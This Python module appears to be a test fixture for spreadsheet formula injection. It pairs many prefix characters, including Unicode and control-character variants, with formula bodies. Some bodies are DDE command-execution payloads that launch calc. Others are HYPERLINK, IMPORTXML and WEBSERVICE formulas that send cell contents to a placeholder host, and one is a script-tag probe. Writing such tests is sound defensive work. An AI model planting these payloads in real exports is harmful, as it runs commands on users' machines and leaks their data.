"""Texts that a spreadsheet could run if written carelessly: what begins them × what runs."""

from __future__ import annotations

STARTS = (
    *("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "−"),
    *("\t=", "\r=", "\n=", "\r\n=", " =", "   +", "\u00a0=", "\u200b=", "\ufeff=", "\x0b="),
    *('"=', '"",=', "'=", ";=", ",=", "\x00=", "\x01@", "\x1f-", "\x7f=", "{=", "==", "=-"),
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid?x="&A1,"open")',
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    'WEBSERVICE("http://example.invalid/")}',
    'DDE("cmd";"/C calc";"x")',
)
OTHERS = (
    *("http://example.invalid/", "mailto:a@example.invalid", "internal:Weights!A1"),
    *("external:c:\\x.xlsx", "#REF!", "#N/A", "TRUE", "1e5", "0012", "-5 and more", "'quoted"),
    *("_x0041_", "_x000D_", "<script>alert(1)</script>", "&amp;", "]]>", "½ £ – é 漢 🙂", ""),
)
STRINGS = (*(start + body for start in STARTS for body in BODIES), *OTHERS)
